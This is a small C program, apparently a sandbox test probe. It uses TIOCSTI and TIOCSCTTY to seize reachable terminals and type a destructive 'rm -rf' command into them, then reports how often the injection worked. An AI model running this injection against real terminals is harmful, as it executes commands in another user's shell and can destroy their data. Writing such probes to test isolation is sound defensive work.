/*
 * inject - what a hostile program tries with the terminals that it can reach
 *
 * Types into each of fds 0, 1, 2 and /dev/tty (TIOCSTI), tries to take each as
 * its controlling terminal by force, and types again. Says how often typing
 * worked, and which user it is. Static, for any image.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int type_into(int fd)
{
	const char evil[] = "rm -rf everything\n";

	for (const char *p = evil; *p; p++)
		if (ioctl(fd, TIOCSTI, p) < 0)
			return 0;
	return 1;
}

int main(void)
{
	const int tty = open("/dev/tty", O_RDWR);
	const int fds[] = {0, 1, 2, tty};
	int typed = 0;

	(void)setsid();
	for (int i = 0; i < 4; i++) {
		typed += type_into(fds[i]);
		(void)ioctl(fds[i], TIOCSCTTY, 1);
		typed += type_into(fds[i]);
	}
	printf("injected %d\neuid %d\n", typed, (int)geteuid());
	return 0;
}
